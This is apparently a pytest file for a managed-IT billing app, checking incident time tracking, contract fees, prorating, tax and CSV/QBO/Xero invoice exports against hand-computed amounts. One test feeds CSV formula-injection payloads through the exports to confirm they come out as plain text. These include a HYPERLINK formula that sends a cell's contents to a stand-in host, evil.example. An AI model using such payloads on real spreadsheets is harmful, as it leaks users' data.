"""Incidents, time, contracts and invoices through the real app: the billing worked examples, priced from what
the technician records through the API (and the CLI), with exact amounts computed by hand beside them."""

from __future__ import annotations

import asyncio
import csv
import io
import re
import subprocess
import sys
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from aiohttp.test_utils import TestClient, TestServer

from collector import keys
from collector.app import create_app
from collector.auth import token_hash
from collector.billing.export import read_generic_csv
from collector.settings import Settings
from shared.backup_results import BackupJob, BackupResults
from tests.support.agents import REPORTS, SimAgent
from tests.support.clock import Clock
from tests.support.collector import TECH, report_free

D = Decimal
ACME = "Acme Tooling"
BAKERY = "Corner Bakery"
# 90.00 an hour, at least 60 minutes, 15-minute increments, x1.5 after hours or in an emergency,
# an on-site call-out billed at least 2 hours (the pure core's worked-example card).
RATES = {
    "effective_from": "2020-01-01",
    "hourly_rate": "90.00",
    "minimum_minutes": 60,
    "increment_minutes": 15,
    "after_hours_multiplier": "1.5",
    "onsite_minimum_minutes": 120,
}
# Acme: 45.00 per workstation and 150.00 per server a month for 24 months; remote and on-site covered, after
# hours not; onboarding 2 months' rate per workstation, 3 per server.
CONTRACT = {
    "start": "2026-06-01",
    "term_months": 24,
    "workstation_rate": "45.00",
    "server_rate": "150.00",
    "covers_remote": True,
    "covers_onsite": True,
    "covers_after_hours": False,
    "onboarding_workstation_months": "2",
    "onboarding_server_months": "3",
}


def settings_for(database: str) -> Settings:
    """A collector on the test's database that never declares anyone offline by itself."""
    return Settings(
        db=database,
        admin_token="tech-secret",
        clock_skew_seconds=10**9,
        notify_interval_seconds=0,
        startup_grace_seconds=10**6,
    )



@pytest.fixture
async def client(database: str, clock: Clock) -> AsyncIterator[TestClient]:
    async with TestClient(TestServer(create_app(settings_for(database), clock=clock))) as test_client:
        yield test_client


async def api(client: TestClient, method: str, path: str, body: Any = None, status: int = 200) -> Any:
    """Call the technician API and return its JSON, asserting the status."""
    response = await client.request(method, path, json=body, headers=TECH)
    assert response.status == status, await response.text()
    return await response.json()


async def enrol(
    client: TestClient, hostname: str, client_name: str = ACME, site: str = "Main office"
) -> SimAgent:
    """Enrol a simulated device at the client's site through the real enrolment endpoint."""
    token = f"token-{client_name}-{hostname}"
    async with client.app[keys.STORE].transaction() as tx:
        ref = await tx.site(client_name, site)
        await tx.add_enrolment_token(token_hash(token), ref, datetime.now(UTC), None, 1)
    agent = SimAgent(hostname, clock=client.app[keys.CLOCK])
    response = await client.post("/api/v1/enrol", json=agent.enrol_body(token))
    assert response.status == 201, await response.text()
    agent.agent_id = (await response.json())["agent_id"]
    return agent


async def device(
    client: TestClient, agent: SimAgent, device_class: str, active_from: str, **more: str
) -> None:
    """Set a device's class and first managed day."""
    await api(
        client,
        "POST",
        f"/api/v1/devices/{agent.agent_id}/billing",
        {"device_class": device_class, "active_from": active_from, **more},
    )


async def acme_office(client: TestClient, active_from: str = "2026-06-01") -> dict[str, SimAgent]:
    """12 workstations, a server and a firewall at Acme, managed from `active_from`."""
    agents = {}
    for n in range(1, 13):
        agents[f"WS-{n:02}"] = await enrol(client, f"WS-{n:02}")
        await device(client, agents[f"WS-{n:02}"], "workstation", active_from, contact="front office")
    agents["SRV-01"] = await enrol(client, "SRV-01")
    await device(client, agents["SRV-01"], "server", active_from)
    agents["FW-01"] = await enrol(client, "FW-01")
    await device(client, agents["FW-01"], "network", active_from)
    return agents


async def contracted(client: TestClient, **changes: Any) -> dict[str, SimAgent]:
    """Acme's office under its contract, and the break/fix rate card for everyone."""
    agents = await acme_office(client, changes.pop("active_from", "2026-06-01"))
    await api(client, "POST", f"/api/v1/clients/{ACME}/contracts", {**CONTRACT, **changes}, 201)
    await api(client, "POST", "/api/v1/rates", RATES, 201)
    return agents


async def incident(client: TestClient, title: str, client_name: str = ACME, **more: Any) -> int:
    """Open an incident by hand; its id."""
    body = {"client": client_name, "title": title, **more}
    return (await api(client, "POST", "/api/v1/incidents", body, 201))["incident_id"]


async def work(client: TestClient, incident_id: int, start: str, minutes: int, **more: Any) -> dict[str, Any]:
    """Add time worked on an incident."""
    body = {"start": start, "minutes": minutes, **more}
    return await api(client, "POST", f"/api/v1/incidents/{incident_id}/time", body, 201)


async def invoice(client: TestClient, month: str, client_name: str = ACME) -> dict[str, Any]:
    """The client's invoice JSON for a month."""
    return await api(client, "GET", f"/api/v1/clients/{client_name}/invoice?month={month}")


def amounts(bill: dict[str, Any]) -> list[tuple[str, str]]:
    """The invoice's lines as (kind, amount)."""
    return [(line["kind"], line["amount"]) for line in bill["lines"]]


async def test_it_charges_only_contract_fees_for_a_month_with_two_covered_incidents(
    client: TestClient, clock: Clock
) -> None:
    agents = await contracted(client)
    clock.now = datetime(2026, 11, 3, 8, 0, tzinfo=UTC)
    await report_free(client, agents["WS-03"], clock, 2)  # C: nearly full: a critical alert
    [alert] = (await api(client, "GET", "/api/v1/alerts"))["alerts"]
    disk = await api(client, "POST", "/api/v1/incidents", {"alert_id": alert["alert_id"]}, 201)
    assert (disk["client"], disk["alert_id"], disk["category"]) == (ACME, alert["alert_id"], "disk_health")
    assert disk["title"] == "The drive C: on WS-03 was running out of space."  # the client sentence, not the summary
    again = await client.post("/api/v1/incidents", json={"alert_id": alert["alert_id"]}, headers=TECH)
    assert again.status == 409, "one incident per alert"

    clock.now = datetime(2026, 11, 3, 9, 0, tzinfo=UTC)
    await api(client, "POST", f"/api/v1/incidents/{disk['incident_id']}/timer/start", {}, 201)
    clock.now = datetime(2026, 11, 3, 9, 44, 30, tzinfo=UTC)
    stopped = await api(client, "POST", f"/api/v1/incidents/{disk['incident_id']}/timer/stop", {})
    assert (stopped["minutes"], stopped["classification"]) == (45, "covered"), (
        "44.5 min: a started minute counts"
    )
    printer = await incident(client, "Printer address clash", category="network")
    onsite = await work(client, printer, "2026-11-09T09:00:00Z", 70, on_site=True)
    assert onsite["classification"] == "covered"

    bill = await invoice(client, "2026-11")
    # 12 workstations x 45.00 = 540.00; 1 server x 150.00 = 150.00 (the firewall is not charged): 690.00
    assert amounts(bill) == [("contract", "540.00"), ("contract", "150.00")]
    assert [line["quantity"] for line in bill["lines"]] == ["12", "1"]
    assert bill["totals"] | {} == {
        "contract": "690.00",
        "onboarding": "0.00",
        "fee": "0.00",
        "time": "0.00",
        "parts": "0.00",
        "subtotal": "690.00",
        "tax": "0.00",
        "total": "690.00",
    }
    shown = await api(client, "GET", f"/api/v1/incidents/{disk['incident_id']}")
    assert [h["what"] for h in shown["alerts"][0]["history"]] == ["opened"]
    assert shown["minutes"] == 45
    async with client.app[keys.STORE].transaction() as tx:
        feed = [event.type for event in await tx.feed_since(0, 1000)]
    assert [t for t in feed if t.startswith(("incident.", "time."))] == [
        "incident.opened",
        "time.started",
        "time.stopped",
        "incident.opened",
        "time.added",
    ]


async def test_it_bills_a_break_fix_emergency_at_the_five_hour_minimum(client: TestClient) -> None:
    for till in ("TILL-01", "TILL-02"):
        await device(client, await enrol(client, till, BAKERY, "Shop"), "workstation", "2026-01-01")
    await api(client, "POST", "/api/v1/rates", RATES, 201)
    # The bakery's own terms: an emergency call-out is billed at least 5 hours.
    await api(
        client, "POST", "/api/v1/rates", {**RATES, "client": BAKERY, "emergency_minimum_minutes": 300}, 201
    )
    restore = await incident(
        client, "Restore two tills after a power cut", BAKERY, category="hardware", emergency=True
    )
    entry = await work(client, restore, "2026-11-14T08:00:00Z", 70, on_site=True)
    assert entry["classification"] == "billable", "no contract"
    bill = await invoice(client, "2026-11", BAKERY)
    # 70 min worked -> 300 min billed = 5 h x 90.00 x 1.5 (emergency) = 675.00
    [line] = bill["lines"]
    assert (line["kind"], line["quantity"], line["unit_price"], line["amount"]) == (
        "time",
        "5",
        "135.00",
        "675.00",
    )
    assert "70 min worked, 300 min billed" in line["description"]
    assert bill["totals"]["total"] == "675.00"


async def test_it_bills_after_hours_work_the_contract_does_not_cover(client: TestClient) -> None:
    await contracted(client)
    disk = await incident(client, "Failing disk on WS-03", category="hardware")
    day = await work(client, disk, "2026-11-05T14:00:00Z", 70)
    night = await work(client, disk, "2026-11-05T22:00:00Z", 70, after_hours=True)
    assert (day["classification"], night["classification"]) == ("covered", "billable")
    bill = await invoice(client, "2026-11")
    # 70 min -> 75 min = 1.25 h x 90.00 x 1.5 = 168.75 on top of the 690.00 fees: 858.75
    assert amounts(bill)[2:] == [("time", "168.75")]
    assert bill["totals"]["total"] == "858.75"


async def test_it_prorates_a_device_added_and_one_removed_mid_month(client: TestClient) -> None:
    agents = await contracted(client)
    await device(client, agents["WS-12"], "workstation", "2026-06-01", active_to="2026-11-10")
    await device(client, await enrol(client, "WS-13"), "workstation", "2026-11-16")
    bill = await invoice(client, "2026-11")
    # 11 x 45.00 = 495.00; 150.00; WS-12 45.00 x 10/30 = 15.00; WS-13 45.00 x 15/30 = 22.50: 682.50
    assert amounts(bill) == [
        ("contract", "495.00"),
        ("contract", "150.00"),
        ("contract", "15.00"),
        ("contract", "22.50"),
    ]
    assert bill["lines"][3]["description"] == "Workstation WS-13, 15/30 days"
    assert bill["totals"]["total"] == "682.50"


async def test_a_january_rate_change_leaves_december_as_it_was(client: TestClient) -> None:
    await contracted(client)
    december = await invoice(client, "2026-12")
    change = {"effective_from": "2027-01-01", "workstation_rate": "49.00", "server_rate": "160.00"}
    version = await api(client, "POST", f"/api/v1/clients/{ACME}/contracts", change, 201)
    assert (version["start"], version["term_months"]) == ("2026-06-01", 24), "the rest carries over"
    # December: 12 x 45.00 + 150.00 = 690.00, before and after the change was entered
    assert await invoice(client, "2026-12") == december
    assert december["totals"]["total"] == "690.00"
    # January: 12 x 49.00 = 588.00 + 160.00 = 748.00, no second onboarding fee
    assert (await invoice(client, "2027-01"))["totals"]["total"] == "748.00"
    same_day = await client.post(f"/api/v1/clients/{ACME}/contracts", json=change, headers=TECH)
    assert same_day.status == 409


async def test_it_charges_the_onboarding_fee_once_in_the_first_month(client: TestClient) -> None:
    await contracted(client, start="2026-11-01", active_from="2026-11-01")
    november = await invoice(client, "2026-11")
    # 12 workstations x (2 x 45.00) = 1080.00 and 1 server x (3 x 150.00) = 450.00,
    # plus the fees 690.00: 2220.00
    assert [a for a in amounts(november) if a[0] == "onboarding"] == [
        ("onboarding", "1080.00"),
        ("onboarding", "450.00"),
    ]
    assert november["totals"]["total"] == "2220.00"
    assert (await invoice(client, "2026-12"))["totals"]["total"] == "690.00"


async def test_an_override_needs_a_reason_and_changes_what_is_billed(client: TestClient) -> None:
    await contracted(client)
    laptop = await incident(client, "New-starter laptop set-up", category="request")
    entry = await work(client, laptop, "2026-11-12T10:00:00Z", 30)
    assert entry["classification"] == "covered"
    path = f"/api/v1/time/{entry['entry_id']}/override"
    assert (await client.post(path, json={"override": "billable"}, headers=TECH)).status == 422
    changed = await api(
        client, "POST", path, {"override": "billable", "reason": "set-up is outside the contract"}
    )
    assert (changed["classification"], changed["override_reason"]) == (
        "billable",
        "set-up is outside the contract",
    )
    # 30 min raised to the 60-minute minimum: 90.00 on top of 690.00
    assert (await invoice(client, "2026-11"))["totals"]["total"] == "780.00"


async def test_it_refuses_money_sent_as_a_float(client: TestClient) -> None:
    response = await client.post("/api/v1/rates", json={**RATES, "hourly_rate": 90.1}, headers=TECH)
    assert response.status == 422
    assert "strings" in (await response.json())["problems"][0]["message"]


async def test_the_csv_exports_import_back_into_the_invoice_totals(client: TestClient) -> None:
    await contracted(client, start="2026-12-01", active_from="2026-12-01")
    await device(client, await enrol(client, "WS-13"), "workstation", "2026-12-22")
    disk = await incident(client, "Failing disk on WS-03", category="hardware")
    await work(client, disk, "2026-12-12T22:00:00Z", 50, after_hours=True)
    await api(
        client,
        "POST",
        f"/api/v1/incidents/{disk}/parts",
        {"description": "Samsung 870 EVO 1TB SSD", "cost": "84.50", "price": "119.00", "day": "2026-12-12"},
        201,
    )
    bill = await invoice(client, "2026-12")
    # fees 540.00 + 150.00 + WS-13 45.00 x 10/31 = 14.52; onboarding 13 x 90.00 + 450.00 = 1620.00;
    # time 50 -> 60 min x 135.00 = 135.00; parts 119.00: total 2578.52
    assert bill["totals"] == {
        "contract": "704.52",
        "onboarding": "1620.00",
        "fee": "0.00",
        "time": "135.00",
        "parts": "119.00",
        "subtotal": "2578.52",
        "tax": "0.00",
        "total": "2578.52",
    }
    base = f"/api/v1/clients/{ACME}/invoice?month=2026-12"
    generic = await (await client.get(f"{base}&format=csv", headers=TECH)).text()
    totals = read_generic_csv(generic)
    assert {k: str(getattr(totals, k)) for k in bill["totals"]} == bill["totals"]
    qbo = list(
        csv.DictReader(io.StringIO(await (await client.get(f"{base}&format=qbo", headers=TECH)).text()))
    )
    assert sum(D(r["ItemQuantity"]) * D(r["ItemRate"]) for r in qbo) == D("2578.52")
    assert {r["Customer"] for r in qbo} == {ACME}
    xero = list(
        csv.DictReader(io.StringIO(await (await client.get(f"{base}&format=xero", headers=TECH)).text()))
    )
    assert sum(D(r["*Quantity"]) * D(r["*UnitAmount"]) for r in xero) == D("2578.52")


HOSTILE_JOB = '=HYPERLINK("http://evil.example/?"&A1,"open")\n-2+3'


async def test_a_hostile_backup_job_name_or_title_reaches_the_csv_exports_only_as_text(
    client: TestClient, clock: Clock
) -> None:
    await api(client, "POST", "/api/v1/rates", RATES, 201)
    agent = await enrol(client, "WS-03")
    failed = BackupJob(name=HOSTILE_JOB, tool="restic", schedule="daily", last_result="failed",
                       error="@SUM(1+1)\r\n+cmd", last_run_ended_at=clock.now)
    body = agent.body(agent.envelope([BackupResults(collected_at=clock.now, jobs=[failed])]))
    assert (await client.post(REPORTS, data=body, headers=agent.headers(body))).status == 200
    [alert] = (await api(client, "GET", "/api/v1/alerts"))["alerts"]
    opened = await api(client, "POST", "/api/v1/incidents", {"alert_id": alert["alert_id"]}, 201)
    # The first title is the rule's sentence: the agent's job name sits inside it as one line of text.
    assert opened["title"] == 'The backup “HYPERLINK("http://evil.example/?"&A1,"open") -2+3” on WS-03 failed.'
    # A title typed as hostile text (pasted from the alert) still reaches the exports only as text.
    await api(client, "POST", f"/api/v1/incidents/{opened['incident_id']}/title", {"title": HOSTILE_JOB})
    await work(client, opened["incident_id"], "2026-11-23T10:00:00Z", 30)
    part = {"description": "@SUM(A1:A9)\n-2+3 USB drive", "cost": "5.00", "price": "12.50", "day": "2026-11-23"}
    await api(client, "POST", f"/api/v1/incidents/{opened['incident_id']}/parts", part, 201)
    base = f"/api/v1/clients/{ACME}/invoice?month=2026-11"
    for fmt in ("csv", "qbo", "xero"):
        text = await (await client.get(f"{base}&format={fmt}", headers=TECH)).text()
        rows = list(csv.reader(io.StringIO(text)))
        assert len(text.split("\r\n")) == len(rows) + 1, "a cell spans lines"
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if "\n" in c or "\r" in c]
        formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t") and not re.fullmatch(r"-?[\d.]+", c)]
        assert formulas == [], fmt
        [time_line] = [c for c in cells if c.startswith(("'=HYPERLINK", "=HYPERLINK"))]
        assert time_line.startswith('\'=HYPERLINK("http://evil.example/?"&A1,"open")'), time_line
        [part_line] = [c for c in cells if "USB drive" in c]
        assert part_line.startswith("'@SUM(A1:A9) -2+3 USB drive"), part_line
    assert read_generic_csv(await (await client.get(f"{base}&format=csv", headers=TECH)).text()).total > 0


async def test_an_incident_keeps_its_alerts_notes_and_closes_once(client: TestClient, clock: Clock) -> None:
    agents = await contracted(client)
    await report_free(client, agents["WS-03"], clock, 2)
    await report_free(client, agents["WS-04"], clock, 3)
    first, second = sorted(a["alert_id"] for a in (await api(client, "GET", "/api/v1/alerts"))["alerts"])
    opened = await api(
        client, "POST", "/api/v1/incidents", {"alert_id": first, "title": "Disks filling up"}, 201
    )
    path = f"/api/v1/incidents/{opened['incident_id']}"
    await api(client, "POST", f"/api/v1/alerts/{first}/acknowledge", {"note": "looking"})
    assert (await api(client, "POST", f"{path}/alerts", {"alert_id": second}))["alert_ids"] == [first, second]
    await api(client, "POST", f"{path}/notes", {"text": "Moved the scanner archive to the NAS"}, 201)
    closed = await api(client, "POST", f"{path}/close", {"resolution": "Archive moved, 40 GB free"})
    assert (closed["status"], closed["resolution"]) == ("closed", "Archive moved, 40 GB free")
    assert (await client.post(f"{path}/close", json={}, headers=TECH)).status == 409
    shown = await api(client, "GET", path)
    assert [a["alert_id"] for a in shown["alerts"]] == [first, second]
    assert [h["what"] for h in shown["alerts"][0]["history"]] == ["opened", "acknowledged"]
    assert [n["text"] for n in shown["notes"]] == ["Moved the scanner archive to the NAS"]
    listed = await api(client, "GET", f"/api/v1/incidents?client={ACME}&status=all")
    assert [i["incident_id"] for i in listed["incidents"]] == [opened["incident_id"]]


@pytest.mark.slow
async def test_the_cli_opens_an_incident_times_the_work_and_writes_the_invoice(
    client: TestClient, clock: Clock, tmp_path: Path
) -> None:
    agents = await acme_office(client)
    clock.now = datetime(2026, 11, 3, 8, 0, tzinfo=UTC)
    await report_free(client, agents["WS-03"], clock, 2)
    [alert] = (await api(client, "GET", "/api/v1/alerts"))["alerts"]
    url = str(client.make_url("")).rstrip("/")

    def fieldpost(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "technician", "--url", url, "--token", "tech-secret", *args],
            capture_output=True,
            text=True,
            check=False,
        )

    async def run(*args: str) -> str:
        done = await asyncio.to_thread(fieldpost, *args)
        assert done.returncode == 0, done.stderr
        return done.stdout

    assert "break/fix rates from 2020-01-01 for everyone: 90.00 an hour" in await run(
        "rates", "set", "--from", "2020-01-01", "--hourly", "90.00", "--onsite-minimum", "120"
    )
    assert "contract for Acme Tooling from 2026-06-01: 45.00 per workstation" in await run(
        "contract",
        "set",
        ACME,
        "--start",
        "2026-06-01",
        "--term",
        "24",
        "--workstation-rate",
        "45.00",
        "--server-rate",
        "150.00",
        "--covers",
        "remote,onsite",
        "--onboarding-workstation-months",
        "2",
        "--onboarding-server-months",
        "3",
        "--included-hours",
        "0.25",
    )
    opened = await run("incident", "open", "--from-alert", str(alert["alert_id"]))
    assert opened.startswith("incident 1 opened: ") and f"from alert #{alert['alert_id']}" in opened
    assert "incident 2 opened: Receptionist asked about the update reboot" in await run(
        "incident", "open", "--client", ACME, "--title", "Receptionist asked about the update reboot"
    )
    assert "timer started on incident 1" in await run("time", "start", "1")
    clock.advance(minutes=25)
    # 15 min are included; the other 10, rounded up to 15 min (no minimum beyond included hours) x 90.00 = 22.50
    assert "timer stopped on incident 1: 25 min (beyond the contract's included hours: 22.50 billed)" in await run(
        "time", "stop", "1")
    refused = await asyncio.to_thread(fieldpost, "time", "stop", "1")
    assert refused.returncode == 1 and "no timer running" in refused.stderr
    assert "30 min added to incident 2 (billable: 135.00)" in await run(
        "time", "add", "2", "--minutes", "30", "--after-hours"
    )
    assert "note added to incident 1" in await run("incident", "note", "1", "Freed 30 GB of old installers")
    assert "incident 1 closed" in await run("incident", "close", "1", "--resolution", "Cleaned up")
    shown = await run("incident", "show", "1")
    assert "Freed 30 GB of old installers" in shown and "25 min in all" in shown and "opened" in shown
    assert "Receptionist asked" in await run("incident", "list")
    printed = await run("invoice", ACME, "--month", "2026-11")
    # 690.00 fees + 22.50 beyond included hours + 30 min after hours raised to 60 min x 135.00 = 135.00: 847.50
    assert "TOTAL" in printed and "847.50" in printed
    target = tmp_path / "acme-2026-11.csv"
    assert "written to" in await run("invoice", ACME, "--month", "2026-11", "--csv", str(target))
    assert read_generic_csv(target.read_text()).total == D("847.50")
    await run("invoice", ACME, "--month", "2026-11", "--csv", str(target), "--format", "xero")
    assert target.read_text().startswith("*ContactName,")

    # Billing settings and tax, then the month issued, listed, printed and voided: all from the terminal.
    shown = await run("billing", "settings", "--business-name", "Kleinert IT", "--tax-rate", "19")
    assert re.search(r"business_name +Kleinert IT", shown) and re.search(r"tax_rate +19\n", shown)
    assert "Acme Tooling's invoices charge 7% tax" in await run("billing", "tax", ACME, "--rate", "7")
    # 847.50 + 7 % (59.325, rounded half up) 59.33 = 906.83
    assert "VAT 7%" in await run("invoice", ACME, "--month", "2026-11")
    pdf = tmp_path / "INV-00001.pdf"
    issued = await run("billing", "issue", ACME, "--month", "2026-11", "--pdf", str(pdf))
    assert "invoice INV-00001 issued for Acme Tooling, 2026-11: EUR 906.83, due" in issued
    assert pdf.read_bytes().startswith(b"%PDF")
    assert "INV-00001  2026-11" in await run("billing", "invoices", ACME)
    assert "invoice INV-00001 voided" in await run("billing", "void", "INV-00001", "--reason", "wrong rate")
    assert "void: wrong rate" in await run("billing", "invoices", ACME)


async def test_a_refusal_says_why_with_the_status_that_fits_on_every_endpoint(client: TestClient) -> None:
    missing = await api(client, "POST", "/api/v1/incidents/99/notes", {"text": "x"}, status=404)
    assert missing == {"error": "there is no incident 99"}
    assert (await api(client, "POST", "/api/v1/silences/7/expire", status=404))["error"] == (
        "there is no active silence 7")
    assert (await api(client, "GET", f"/api/v1/clients/{BAKERY}/contracts", status=404))["error"] == (
        f"there is no client {BAKERY!r}")
    bad_month = await api(client, "GET", f"/api/v1/clients/{ACME}/invoice?month=11-2026", status=400)
    assert bad_month["problems"] == [{"field": "month", "message": "the month must be YYYY-MM, e.g. 2026-11"}]
    by_hand = await api(client, "POST", "/api/v1/incidents", {"title": "no client"}, status=422)
    assert by_hand == {"error": "give alert_id, or client and title"}
    await api(client, "POST", "/api/v1/rates", RATES, status=201)
    twice = await api(client, "POST", "/api/v1/rates", RATES, status=409)
    assert twice["error"]


@pytest.mark.parametrize("alert_id", [2**63, 2**64, 0, -1])
async def test_an_alert_id_no_database_can_hold_is_refused_not_a_500(client: TestClient, alert_id: int) -> None:
    await contracted(client)
    opened = await client.post("/api/v1/incidents", json={"client": ACME, "title": "Printer"}, headers=TECH)
    assert opened.status == 201, await opened.text()
    incident_id = (await opened.json())["incident_id"]
    for path, body in (("/api/v1/incidents", {"alert_id": alert_id}),
                       (f"/api/v1/incidents/{incident_id}/alerts", {"alert_id": alert_id})):
        answer = await client.post(path, json=body, headers=TECH)
        assert answer.status == 422, (path, answer.status, await answer.text())
        assert "alert_id" in await answer.text()
